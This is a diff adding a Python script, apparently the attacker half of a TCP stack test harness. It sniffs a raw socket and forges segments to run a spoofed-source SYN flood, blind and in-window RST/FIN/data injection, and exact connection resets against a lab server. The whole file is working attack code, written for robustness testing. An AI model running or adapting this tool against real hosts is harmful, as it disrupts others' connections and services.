@@ -1,0 +1,196 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: Apache-2.0
+"""attacker.py MODE: forged TCP segments from the client's address (or nobody's) into the server's port, from the wire between them.
+
+    flood      SYNs from addresses that never answer; prints `sent` after 4000 of them
+    blind      RST, FIN, SYN and data with random numbers for every connection seen: all that an off-path attacker cannot know is
+               guessed, only the ports are looked up
+    near       with the numbers read off the wire: RSTs in the window but not at its edge, SYNs, stale data, impossible ACKs
+    rst, fin   one exact RST or FIN as soon as a connection has more than 300,000 bytes acknowledged and no more under way; then ends
+
+The first three go on until standard input ends and then print `sent N answered M`: segments forged, and segments of the server seen.
+"""
+import os
+import random
+import select
+import socket
+import struct
+import sys
+import threading
+
+PORT = 9000
+SERVER, CLIENT = socket.inet_aton("10.77.0.1"), socket.inet_aton("10.77.0.2")
+FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
+EDGE = 1 << 32
+AT_REST = 300_000  # a victim sends a little more and then waits, so its numbers stand still
+
+
+def checksum(data):
+    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+
+
+def segment(ethernet, source, port, seq, ack, flags, options=b"", payload=b""):
+    """A whole frame from source:port to the server."""
+    tcp = struct.pack("!HHIIBBHHH", port, PORT, seq % EDGE, ack % EDGE, (20 + len(options)) // 4 << 4, flags, 1000, 0, 0)
+    tcp += options + payload
+    pseudo = source + SERVER + struct.pack("!HH", 6, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source + SERVER
+    return ethernet + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp
+
+
+class Flow:
+    """What the wire has shown of one connection of the client."""
+
+    def __init__(self):
+        self.first = self.sent = self.acked = self.server_next = None
+        self.window = self.scale = self.stamp = 0
+        self.ended = False
+
+    def from_client(self, seq, flags, options, size):
+        if flags & SYN:
+            self.__init__()
+            self.first = seq + 1
+        end = (seq + size + bool(flags & (SYN | FIN))) % EDGE
+        if self.sent is None or (end - self.sent) % EDGE < EDGE // 2:
+            self.sent = end
+        self.stamp = options.get(8, self.stamp)
+        self.ended |= bool(flags & (FIN | RST))
+
+    def from_server(self, seq, ack, flags, options, size, window):
+        if flags & SYN:
+            self.scale = options.get(3, 0)
+        self.acked, self.window = ack, window << (0 if flags & SYN else self.scale)
+        self.server_next = (seq + size + bool(flags & (SYN | FIN))) % EDGE
+        self.ended |= bool(flags & (FIN | RST))
+
+
+def read_options(data):
+    """{8: timestamp value, 3: window shift}"""
+    found, at = {}, 0
+    while at < len(data) and data[at] != 0:
+        if data[at] == 1:
+            at += 1
+            continue
+        if at + 1 >= len(data) or data[at + 1] < 2:
+            break
+        if data[at] == 8:
+            found[8] = struct.unpack_from("!I", data, at + 2)[0]
+        elif data[at] == 3:
+            found[3] = data[at + 2]
+        at += data[at + 1]
+    return found
+
+
+class Wire:
+    def __init__(self):
+        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+        self.socket.bind(("m0", 0))
+        self.flows, self.ethernet, self.answered, self.sent = {}, None, 0, 0
+        self.lock = threading.Lock()
+
+    def look(self):
+        """Reads one frame."""
+        frame, (_, _, kind, _, _) = self.socket.recvfrom(200)
+        if len(frame) < 54 or frame[12:14] != b"\x08\0" or frame[23] != 6:
+            return
+        source, dest = frame[26:30], frame[30:34]
+        total = struct.unpack_from("!H", frame, 16)[0]
+        here, there, seq, ack, offset, flags, window = struct.unpack_from("!HHIIBBH", frame, 34)
+        options = read_options(frame[54:34 + (offset >> 4) * 4])
+        size = total - 20 - (offset >> 4) * 4
+        with self.lock:
+            if source == SERVER and here == PORT:
+                self.answered += 1
+                if dest == CLIENT:
+                    self.flows.setdefault(there, Flow()).from_server(seq, ack, flags, options, size, window)
+            elif dest == SERVER and there == PORT and source == CLIENT and kind == socket.PACKET_OUTGOING:
+                self.ethernet = frame[:14]
+                self.flows.setdefault(here, Flow()).from_client(seq, flags, options, size)
+
+    def alive(self):
+        with self.lock:
+            return [(port, flow) for port, flow in self.flows.items() if flow.acked is not None and not flow.ended]
+
+    def forge(self, *arguments, source=CLIENT, **more):
+        self.socket.send(segment(self.ethernet, source, *arguments, **more))
+        self.sent += 1
+
+
+def stamps(flow, value=None):
+    return struct.pack("!BBBBII", 1, 1, 8, 10, (flow.stamp if value is None else value) % EDGE, 0)
+
+
+def blind(wire, port, flow):
+    for flags in (RST, RST | ACK, FIN | ACK, SYN, ACK | PSH):
+        options = stamps(flow, random.randrange(EDGE)) if random.random() < 0.5 else b""
+        wire.forge(port, random.randrange(EDGE), random.randrange(EDGE), flags, options=options,
+                   payload=b"forged" if flags & PSH else b"")
+
+
+def near(wire, port, flow):
+    edge, mine, ours = flow.acked + flow.window, flow.acked, flow.server_next
+    if flow.window > 4000:  # Near the window's far end, where no byte of the client's can be yet.
+        wire.forge(port, edge - random.randrange(1, 1000), 0, RST)
+        wire.forge(port, edge - random.randrange(1, 1000), ours, RST | ACK, options=stamps(flow))
+    wire.forge(port, mine, ours, SYN, options=stamps(flow))
+    wire.forge(port, mine - 1, ours, RST | ACK, options=stamps(flow))
+    wire.forge(port, mine - 3000, ours, ACK | PSH, options=stamps(flow), payload=b"forged" * 100)
+    wire.forge(port, mine - 1, ours + 1_000_000, ACK, options=stamps(flow))
+    wire.forge(port, mine, ours, ACK | PSH, options=stamps(flow, flow.stamp - 1_000_000), payload=b"forged" * 100)
+
+
+def attack_until_told(wire, what):
+    while not select.select([sys.stdin], [], [], 0.002)[0]:
+        for port, flow in wire.alive():
+            what(wire, port, flow)
+    print(f"sent {wire.sent} answered {wire.answered}", flush=True)
+
+
+def flood(wire):
+    option = struct.pack("!BBHBBBB", 2, 4, 1460, 1, 3, 3, 7)
+    while not select.select([sys.stdin], [], [], 0)[0]:
+        for _ in range(50):
+            source = bytes([198, 18]) + os.urandom(2)
+            wire.forge(random.randrange(1024, 65536), random.randrange(EDGE), 0, SYN, source=source, options=option)
+        if wire.sent == 4000:
+            print("sent", flush=True)
+    print(f"sent {wire.sent} answered {wire.answered}", flush=True)
+
+
+def exact(wire, flags):
+    while True:
+        for port, flow in wire.alive():
+            if flow.first is not None and flow.acked == flow.sent and (flow.acked - flow.first) % EDGE > AT_REST:
+                wire.forge(port, flow.acked, flow.server_next, flags, options=stamps(flow))
+                print("sent", flush=True)
+                return
+        wire.look()
+
+
+def main():
+    mode, wire = sys.argv[1], Wire()
+    if mode in ("rst", "fin"):
+        print("looking", flush=True)
+        exact(wire, RST | ACK if mode == "rst" else FIN | ACK)
+        return
+
+    def look_on():
+        while True:
+            wire.look()
+    threading.Thread(target=look_on, daemon=True).start()
+    print("looking", flush=True)
+    if mode == "flood":
+        while not wire.ethernet:
+            select.select([], [], [], 0.01)
+        flood(wire)
+    else:
+        attack_until_told(wire, {"blind": blind, "near": near}[mode])
+    os._exit(0)  # The thread that looks on is in a system call and has nothing to finish.
+
+
+if __name__ == "__main__":
+    main()
